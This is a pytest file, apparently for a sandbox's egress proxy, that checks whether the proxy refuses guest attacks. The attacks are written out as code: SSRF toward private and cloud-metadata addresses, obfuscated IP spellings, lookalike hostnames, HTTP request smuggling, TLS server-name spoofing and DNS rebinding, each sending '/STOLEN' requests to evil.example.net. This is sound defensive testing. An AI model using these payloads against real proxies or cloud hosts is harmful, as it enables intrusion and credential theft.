"""Attacks on the bounded way out. Each succeeds when it is made directly in the caller's network, as its control."""

from __future__ import annotations

import dataclasses
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest

from stockade import NetworkUse, Result
from stockade.attacks import corpus, trial
from stockade.attacks.trial import Verdict
from tests.support.internet import CALLER, OTHER, PRIVATE, WEB, Internet

pytestmark = pytest.mark.needs("native", "small-internet")

_NAMES = {
    "example.org": [[WEB]],
    "a.example.org": [[WEB]],
    "evil.example.net": [[OTHER]],
    "private.example.org": [[PRIVATE]],
    "loopback.example.org": [["127.0.0.1"]],
    "here.example.org": [[CALLER]],
    "metadata.example.org": [["169.254.169.254"]],
    "azure.example.org": [["168.63.129.16"]],
    "shared.example.org": [["100.64.0.1"]],
    "documented.example.org": [["203.0.113.7"]],
    "six.example.org": [["fd00:ec2::254"]],
    "sixtofour.example.org": [["2002:a00:5::1"]],
    "nat.example.org": [["64:ff9b::a00:5"]],
    "mapped.example.org": [["::ffff:10.0.0.5"]],
    "rebound.example.org": [[WEB], [PRIVATE]],
    "mixed.example.org": [[PRIVATE, WEB, "fd00:ec2::254"]],
    "late.example.org": [[PRIVATE], [WEB]],
    "example.org.example.net": [[OTHER]],
    "evil-example.org": [[OTHER]],
    "xn--exmple-4nf.org": [[OTHER]],
}
_ALLOW = ("example.org:80", "example.org:443", "*.example.org:80", "*.example.org:443")
_KIT = f"""
import os, socket, ssl, sys, time
PROXY = os.environ.get("http_proxy") and ("127.0.0.1", 3128)
def raw(data, place=({WEB!r}, 80), wait=5):
    with socket.create_connection(PROXY or place, wait) as sock:
        sock.settimeout(wait)
        sock.sendall(data)
        found = b""
        try:
            while piece := sock.recv(1 << 16):
                found += piece
        except OSError:
            pass
    return found
def get(url, host=None, place=({WEB!r}, 80)):
    name, _, path = url.removeprefix("http://").partition("/")
    where = url if PROXY else "/" + path
    return raw(f"GET {{where}} HTTP/1.1\\r\\nHost: {{host or name}}\\r\\nConnection: close\\r\\n\\r\\n".encode(), place)
def tunnel(target, place=({WEB!r}, 443)):
    sock = socket.create_connection(PROXY or place, 5)
    sock.settimeout(5)
    if PROXY:
        sock.sendall(f"CONNECT {{target}} HTTP/1.1\\r\\nHost: {{target}}\\r\\n\\r\\n".encode())
        answer = sock.recv(1 << 16)
        if b" 200 " not in answer:
            raise OSError(answer)
    return sock
def shake(sock, name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(sock, server_hostname=name)
"""


_FIND_PROXY = """
import os, signal, sys, time, stockade
from pathlib import Path
def status(pid):
    return dict(line.split(":\\t") for line in Path(f"/proc/{pid}/status").read_text().splitlines() if ":\\t" in line)
def children(pid):
    return [int(each) for task in Path(f"/proc/{pid}/task").iterdir() for each in (task / "children").read_text().split()]
code = "import socket; s = socket.create_connection(('127.0.0.1', 3128)); s.sendall(b'GET'); print(1, flush=True); input()"
runner = stockade.Runner(stockade.Policy(network=stockade.Network(allow=["example.org:80"])), backend="native")
stream = runner.stream(code, interactive=True)
for event in stream:
    if isinstance(event, stockade.Output):
        break
until, found = time.monotonic() + 10, []
while not found and time.monotonic() < until:
    time.sleep(0.05)
    found = [pid for pid in children(children(os.getpid())[0]) if int(status(pid)["Threads"]) > 1]
"""
_KILLED_CALLER = """
proxy = status(found[0])
own = proxy["Uid"].split()[0] != "0"
rights = [proxy[each].strip("0") for each in ("CapEff", "CapPrm", "CapInh")]
print(len(found), own, *rights, proxy["NoNewPrivs"], proxy["Seccomp"], found[0], flush=True)
os.kill(found[0], signal.SIGSTOP)  # it cannot even notice
os.kill(os.getpid(), signal.SIGKILL)
"""
_KILLED_PROXY = """
os.kill(found[0], getattr(signal, sys.argv[1]))
stream.write("x\\n")
for event in stream: pass
print(stream.result.outcome, stream.result.network.error)
"""


@dataclass(frozen=True)
class Attack:
    """The guest's action, the caller's action as the control, and the server's note that shows success."""

    code: str
    reached: dict[str, Any]
    reason: str
    control: str | None = None
    """Code of the control; ``None``: the same."""
    allow: tuple[str, ...] = _ALLOW
    options: dict[str, Any] = field(default_factory=dict)


def _to(name: str, reason: str, address: str) -> Attack:
    """Return an attack by a name of the list that leads to an address which no name may lead to."""
    place = f"{address!r}, 80"
    at = f"::ffff:{address}" if ":" not in address else address
    return Attack(
        f"get('http://{name}/STOLEN')",
        {"at": [at, 80], "path": "/STOLEN"},
        reason,
        f"get('http://{name}/STOLEN', place=({place}))",
    )


def _spelled(url_host: str) -> Attack:
    """Return an attack on a private address by another spelling of it, which a resolver reads as the address."""
    literal = url_host.startswith("[")
    control = f"get('http://{url_host}/STOLEN', place=({url_host.strip('[]')!r}, 80))"
    return Attack(
        f"get('http://{url_host}/STOLEN')",
        {"path": "/STOLEN"},
        "not in network.allow" if literal else "neither a name nor an IPv4 address",
        control,
    )


_ATTACKS = {
    "name_to_private_address": _to("private.example.org", "a private address", PRIVATE),
    "name_to_metadata": _to("metadata.example.org", "link-local", "169.254.169.254"),
    "name_to_metadata_of_another_cloud": _to("azure.example.org", "metadata address of a cloud", "168.63.129.16"),
    "name_to_metadata_over_ipv6": _to("six.example.org", "a private address", "fd00:ec2::254"),
    "name_to_carrier_address": _to("shared.example.org", "provider's own network", "100.64.0.1"),
    "name_to_documentation_address": _to("documented.example.org", "documentation", "203.0.113.7"),
    "name_to_6to4_address": _to("sixtofour.example.org", "6to4", "2002:a00:5::1"),
    "name_to_nat64_address": _to("nat.example.org", "NAT64", "64:ff9b::a00:5"),
    "decimal_address": _spelled("167772165"),
    "octal_address": _spelled("012.0.0.5"),
    "hexadecimal_address": _spelled("0x0a000005"),
    "short_address": _spelled("10.5"),
    "mapped_address": _spelled("[::ffff:10.0.0.5]"),
    "unlisted_name": Attack(
        "get('http://evil.example.net/STOLEN')",
        {"path": "/STOLEN"},
        "evil.example.net:80 is not in network.allow",
        f"get('http://evil.example.net/STOLEN', place=({OTHER!r}, 80))",
    ),
    "name_that_begins_like_a_listed_one": Attack(
        "get('http://example.org.example.net/STOLEN')",
        {"path": "/STOLEN"},
        "example.org.example.net:80 is not in network.allow",
    ),
    "name_that_ends_like_a_listed_one": Attack(
        "get('http://evil-example.org/STOLEN')", {"path": "/STOLEN"}, "evil-example.org:80 is not in network.allow"
    ),
    "name_that_looks_like_a_listed_one": Attack(
        "get('http://xn--exmple-4nf.org/STOLEN')", {"path": "/STOLEN"}, "xn--exmple-4nf.org:80 is not in network.allow"
    ),
    "name_that_looks_like_a_listed_one_in_its_own_letters": Attack(
        "raw('GET http://ex\u0430mple.org/STOLEN HTTP/1.1\\r\\nHost: ex\u0430mple.org\\r\\n\\r\\n'.encode())",
        {"path": "/STOLEN"},
        "characters that a URL cannot have",
        f"get('http://ex\u0430mple.org/STOLEN', host='x', place=({OTHER!r}, 80))",
    ),
    "trailing_dot": Attack(
        "get('http://example.org./STOLEN')", {"path": "/STOLEN"}, "without the dot", allow=("example.org:80",)
    ),
    "user_in_url": Attack(
        "get('http://example.org:80@evil.example.net/STOLEN', host='evil.example.net')", {"path": "/STOLEN"}, "not a port"
    ),
    "another_port": Attack(
        "get('http://example.org:8080/STOLEN')",
        {"path": "/STOLEN"},
        "example.org:8080 is not in network.allow",
        f"get('http://example.org:8080/STOLEN', place=({WEB!r}, 8080))",
    ),
    "another_host_field": Attack(
        "get('http://example.org/STOLEN', host='evil.example.net')",
        {"path": "/STOLEN", "host": "evil.example.net"},
        "the Host field names 'evil.example.net'",
    ),
    "two_host_fields": Attack(
        "raw((f'GET {PROXY and \"http://example.org\" or \"\"}/STOLEN HTTP/1.1\\r\\nHost: example.org\\r\\nHost: evil.example.net\\r\\n"
        "Connection: close\\r\\n\\r\\n').encode())",
        {"path": "/STOLEN"},
        "exactly one Host",
    ),
    "pipelined_request": Attack(
        "url = PROXY and 'http://example.org' or ''\n"
        "raw((f'GET {url}/first HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n"
        "GET /STOLEN HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n').encode())",
        {"path": "/STOLEN"},
        "more than one request",
    ),
    "second_request_after_the_first": Attack(
        "url = PROXY and 'http://example.org' or ''\n"
        f"sock = socket.create_connection(PROXY or ({WEB!r}, 80))\n"
        "sock.sendall(f'POST {url}/slow HTTP/1.1\\r\\nHost: example.org\\r\\nContent-Length: 2\\r\\n\\r\\n'.encode())\n"
        "time.sleep(0.2); sock.sendall(b'hi'); time.sleep(0.0)\n"
        "sock.sendall(b'GET /STOLEN HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n'); time.sleep(0.5)",
        {"path": "/STOLEN"},
        "a second request came over one connection",
    ),
    "smuggled_behind_two_lengths": Attack(
        "url = PROXY and 'http://example.org' or ''\n"
        "inner = 'GET /STOLEN HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n'\n"
        "raw((f'POST {url}/first HTTP/1.1\\r\\nHost: example.org\\r\\nContent-Length: 0\\r\\nContent-Length: {len(inner)}"
        "\\r\\n\\r\\n{inner}').encode())",
        {"path": "/STOLEN"},
        "Content-Length must be one number",
    ),
    "smuggled_behind_length_and_chunks": Attack(
        "url = PROXY and 'http://example.org' or ''\n"
        "inner = '0\\r\\n\\r\\nGET /STOLEN HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n'\n"
        "raw((f'POST {url}/first HTTP/1.1\\r\\nHost: example.org\\r\\nContent-Length: {len(inner)}\\r\\n"
        "Transfer-Encoding: chunked\\r\\n\\r\\n{inner}').encode())",
        {"path": "/STOLEN"},
        "Transfer-Encoding",
    ),
    "smuggled_behind_a_bare_line_feed": Attack(
        "url = PROXY and 'http://example.org' or ''\n"
        "raw((f'GET {url}/first HTTP/1.1\\r\\nHost: example.org\\n\\nGET /STOLEN HTTP/1.1\\nHost: evil.example.net\\r\\n\\r\\n'"
        ").encode())",
        {"path": "/STOLEN"},
        "control characters",
    ),
    "other_name_in_tls": Attack(
        "sock = shake(tunnel('example.org:443'), 'evil.example.net')\n"
        "sock.sendall(b'GET /STOLEN HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n'); sock.recv(100)",
        {"sni": "evil.example.net"},
        "the TLS connection is for 'evil.example.net'",
    ),
    "no_name_in_tls": Attack(
        "sock = shake(tunnel('example.org:443'), None)\n"
        "sock.sendall(b'GET /STOLEN HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n'); sock.recv(100)",
        {"path": "/STOLEN"},
        "exactly one server name",
    ),
    "no_tls_in_tunnel": Attack(
        f"sock = tunnel('example.org:80', ({WEB!r}, 80))\n"
        "sock.sendall(b'GET /STOLEN HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n'); sock.recv(100)",
        {"path": "/STOLEN"},
        "this is not TLS",
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def internet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
    """Return a caller in a small internet."""
    net = Internet(tmp_path_factory.mktemp("internet"))
    net.ask("names", **_NAMES)
    yield net
    net.close()


@pytest.fixture(scope="module")
def tried(internet: Internet) -> tuple[list[Any], Result, list[Any]]:
    """Return what the servers noted of all controls, the result of a guest that tries all attacks, and those notes."""
    control = internet.ask("direct", code=_all({name: each.control or each.code for name, each in _ATTACKS.items()}))
    answer = internet.ask(
        "run", code=_all({name: each.code for name, each in _ATTACKS.items()}), network={"allow": _ALLOW}
    )
    result = Result.from_dict(answer["result"])
    assert result.ok, (result.summary(), result.stderr)
    return control["notes"], result, answer["notes"]


def _all(codes: dict[str, str]) -> str:
    return f"""{_KIT}
for name, code in {codes!r}.items():
    try:
        exec(code.replace("STOLEN", name))
    except (OSError, ssl.SSLError) as error:
        print(name, repr(error)[:200])
"""


def _hit(notes: list[dict[str, Any]], wanted: dict[str, Any]) -> bool:
    return any(all(note.get(key) == value for key, value in wanted.items()) for note in notes)


def _run(
    internet: Internet, code: str, allow: tuple[str, ...] = _ALLOW, **options: Any
) -> tuple[Result, NetworkUse, list[Any]]:
    answer = internet.ask("run", code=_KIT + code, network={"allow": list(allow), **options})
    assert "error" not in answer, answer
    result = Result.from_dict(answer["result"])
    assert result.network is not None and result.network.error is None
    return result, result.network, answer["notes"]


@pytest.mark.parametrize("name", _ATTACKS)
def test_attack_on_way_out_is_refused(tried: tuple[list[Any], Result, list[Any]], name: str) -> None:
    attack, (control, result, notes) = _ATTACKS[name], tried
    wanted = {key: value.replace("STOLEN", name) if key == "path" else value for key, value in attack.reached.items()}
    assert _hit(control, wanted), "the control has not reached the server"
    assert not _hit(notes, wanted)
    assert result.network is not None
    assert [each for each in result.network.refusals if attack.reason in each.reason], result.network


def test_name_is_resolved_outside_and_only_after_it_was_matched(internet: Internet) -> None:
    """A resolver carries no secret out, neither the guest's own nor the proxy's."""
    code = (
        "try: socket.getaddrinfo('secret.example.org', 80)\nexcept OSError as error: print(error.errno)\n"
        "get('http://secret.evil.example.net/')"
    )
    control = internet.ask("direct", code=_KIT + code.splitlines()[0] + "\nexcept OSError: pass")
    assert _hit(control["notes"], {"asked": "secret.example.org"})
    result, use, notes = _run(internet, code)
    assert use.refused == 1 and not [note for note in notes if "asked" in note], result.stderr


@pytest.mark.parametrize("name", ["network/tcp", "network/udp", "network/dns", "network/raw_socket"])
def test_attack_around_the_proxy_is_refused(name: str) -> None:
    attack = next(each for each in corpus.load() if each.id == name)
    tried = trial.attempt(dataclasses.replace(attack, policy={"network": {"allow": list(_ALLOW)}}))
    assert tried.verdict is Verdict.REFUSED, tried.confined.what if tried.confined else tried.reason


def test_rebound_name_is_refused_at_the_second_look_up(internet: Internet) -> None:
    code = "print(get('http://rebound.example.org/first')[:15]); print(get('http://rebound.example.org/second')[:12])"
    result, use, notes = _run(internet, code)
    assert result.stdout == "b'HTTP/1.1 200 OK'\nb'HTTP/1.1 403'\n"
    assert [note["path"] for note in notes if "path" in note] == ["/first"]
    assert len([note for note in notes if note.get("kind") == 1]) == 2  # one question for each request, none after it
    assert "10.0.0.5, a private address" in use.refusals[0].reason
    assert _hit(
        internet.ask("direct", code=f"{_KIT}get('http://rebound.example.org/x', place=('rebound.example.org', 80))")[
            "notes"
        ],
        {"path": "/x", "at": ["::ffff:10.0.0.5", 80]},
    )


def test_mixed_answer_leads_to_public_address_only(internet: Internet) -> None:
    result, use, notes = _run(internet, "print(get('http://mixed.example.org/x')[:15])")
    assert result.stdout == "b'HTTP/1.1 200 OK'\n" and use.refused == 0
    assert _hit(notes, {"path": "/x", "at": [f"::ffff:{WEB}", 80]})


@pytest.mark.parametrize("name", ["here.example.org", "loopback.example.org"])
def test_name_of_the_host_itself_is_refused(internet: Internet, name: str) -> None:
    control = internet.ask("direct", code=f"{_KIT}print(get('http://{name}/', place=({name!r}, 80)))")
    assert "the caller's own service" in control["stdout"]
    result, use, _ = _run(internet, f"print(get('http://{name}/'))")
    assert "own service" not in result.stdout
    assert "of this host" in use.refusals[0].reason or "loopback" in use.refusals[0].reason


def test_listed_address_allows_exactly_itself(internet: Internet) -> None:
    code = (
        "for url in ('http://10.0.0.5/a', 'http://10.0.0.5:8080/b', 'http://private.example.org/c', 'http://127.0.0.1/d'):\n"
        "    print(get(url)[9:12])"
    )
    result, _, notes = _run(internet, code, ("10.0.0.5:80", "127.0.0.1:80"))
    assert result.stdout == "b'200'\nb'403'\nb'403'\nb'200'\n"
    assert [note["path"] for note in notes if "path" in note] == ["/a"]


def test_redirect_leads_the_client_to_the_same_rules(internet: Internet) -> None:
    code = (
        "import urllib.request\n"
        "try: urllib.request.urlopen('http://example.org/redirect?to=http://evil.example.net/stolen')\n"
        "except OSError as error: print(error)"
    )
    result, _, notes = _run(internet, code)
    assert "evil.example.net:80 is not in network.allow" in result.stdout
    assert [note["path"].partition("?")[0] for note in notes if "path" in note] == ["/redirect"]
    assert _hit(internet.ask("direct", code=code)["notes"], {"path": "/stolen"})


def test_refused_request_ends_its_connection(internet: Internet) -> None:
    code = (
        "request = 'GET http://{0}/{1} HTTP/1.1\\r\\nHost: {0}\\r\\n\\r\\n'.format\n"
        "sock = socket.create_connection(PROXY); sock.sendall(request('evil.example.net', 'a').encode())\n"
        "first = sock.recv(1 << 16); time.sleep(0.1)\n"
        "try:\n    sock.sendall(request('example.org', 'b').encode()); time.sleep(0.3); rest = sock.recv(1 << 16)\n"
        "except OSError: rest = b''\n"
        "print(first[9:12], rest)"
    )
    result, _, notes = _run(internet, code)
    assert result.stdout == "b'403' b''\n" and not [note for note in notes if "path" in note]


def test_proxy_leads_neither_to_itself_nor_to_another_proxy(internet: Internet) -> None:
    code = "for port in (3128, 80):\n    try: tunnel(f'127.0.0.1:{port}')\n    except OSError as error: print(str(error)[10:22])"
    result, _, _ = _run(internet, code)
    assert result.stdout == "'HTTP/1.1 403\n" * 2 or result.stdout.count("403") == 2


def test_second_hello_with_another_name_is_refused(internet: Internet) -> None:
    """The server at port 8443 asks for a second ClientHello, and follows the name in it."""
    code = f"""
context = ssl.create_default_context(); context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
def hello(name):
    out = ssl.MemoryBIO(); into = ssl.MemoryBIO()
    tls = context.wrap_bio(into, out, server_hostname=name)
    return tls, into, out
def start(tls):
    try: tls.do_handshake()
    except ssl.SSLWantReadError: pass
sock = tunnel('example.org:8443', ({WEB!r}, 8443))
tls, into, out = hello('example.org'); start(tls)
sock.sendall(out.read()); into.write(sock.recv(1 << 16)); start(tls)
second = out.read()
forged = second.replace(b'example.org', b'evilple.org')
assert forged != second
sock.sendall(forged); print(sock.recv(7)); time.sleep(0.2)
"""
    control = internet.ask("direct", code=_KIT + code)
    assert _hit(control["notes"], {"sni": "evilple.org"}), control
    result, use, notes = _run(internet, code, ("example.org:8443",))
    assert not _hit(notes, {"sni": "evilple.org"}) and _hit(notes, {"sni": "example.org"}), result.stderr
    assert "the TLS connection is for 'evilple.org'" in use.refusals[0].reason


def test_flood_of_connections_is_bounded(internet: Internet) -> None:
    code = (
        "socks = []\n"
        "for number in range(1500):\n"
        "    try:\n        sock = socket.create_connection(PROXY, 0.2); sock.sendall(b'x\\r\\n\\r\\n'); socks.append(sock)\n"
        "        if len(socks) > 20: socks.pop(0).close()\n"
        "    except OSError: break\n"
        "print(number)"
    )
    result, use, _ = _run(internet, code, requests=50, connections=8)
    assert any("50 requests, the most that network.requests allows" in each.reason for each in use.refusals)
    assert use.requests <= 50 + 100 + 8 and use.refused <= use.requests
    assert result.ok and int(result.stdout) < 1400


def test_slow_requests_give_their_place_back(internet: Internet) -> None:
    code = (
        "slow = [socket.create_connection(PROXY) for _ in range(3)]\n"
        "for sock in slow: sock.sendall(b'GET http://exa')\n"
        "begin = time.monotonic(); answer = get('http://example.org/x')[9:12]\n"
        "print(answer, time.monotonic() - begin < 15, slow[0].recv(100)[9:12])"
    )
    result, use, _ = _run(internet, code, connections=2, connect_time=1)
    assert result.stdout == "b'200' True b'408'\n" and use.refused >= 2, (result.stderr, use)


def test_bytes_and_rate_are_bounded(internet: Internet) -> None:
    code = (
        "begin = time.monotonic(); got = len(get('http://example.org/bytes?count=3000000')); print(got, time.monotonic() - begin)\n"
        "print(len(get('http://example.org/bytes?count=3000000'))); print(get('http://example.org/x')[:12])"
    )
    result, use, _ = _run(internet, code, received=4_000_000, rate=4_000_000)
    first, second, third = result.stdout.splitlines()
    assert int(first.split()[0]) >= 3_000_000 and float(first.split()[1]) > 0.5
    assert int(second) < 1_100_000 and use.received <= 4_000_000
    assert any("4000000 bytes of network.received" in each.reason for each in use.refusals), (use, third)


def test_guest_that_reads_nothing_holds_only_itself(internet: Internet) -> None:
    code = (
        "socks = []\n"
        "for _ in range(3):\n    sock = socket.create_connection(PROXY); sock.sendall("
        "b'GET http://example.org/bytes?count=50000000 HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n'); socks.append(sock)\n"
        "time.sleep(0.5); print(get('http://example.org/x')[9:12])"
    )
    result, use, _ = _run(internet, code, rate="unlimited")
    assert result.stdout == "b'200'\n" and use.received < 60_000_000


def test_proxy_is_confined_and_ends_with_its_caller(internet: Internet) -> None:
    answer = internet.ask("command", argv=[sys.executable, "-c", _FIND_PROXY + _KILLED_CALLER])
    assert answer["status"] == -9, answer
    *found, proxy = answer["stdout"].split()
    assert found == ["1", "True", "1", "2"], answer
    there = "grep -q '^State:.[^ZX]' /proc/$0/status"
    waiting = f"for i in $(seq 50); do {there} || exit 0; sleep 0.1; done; exit 1"
    assert internet.ask("command", argv=["sh", "-c", waiting, proxy])["status"] == 0


@pytest.mark.parametrize(
    ("sign", "reason"),
    [("SIGKILL", "the proxy ended before the run"), ("SIGSTOP", "the proxy gave no account within 1 s")],
)
def test_run_outlives_its_proxy_and_says_so(internet: Internet, sign: str, reason: str) -> None:
    answer = internet.ask("command", argv=[sys.executable, "-c", _FIND_PROXY + _KILLED_PROXY, sign])
    assert answer["stdout"] == f"completed {reason}\n", answer
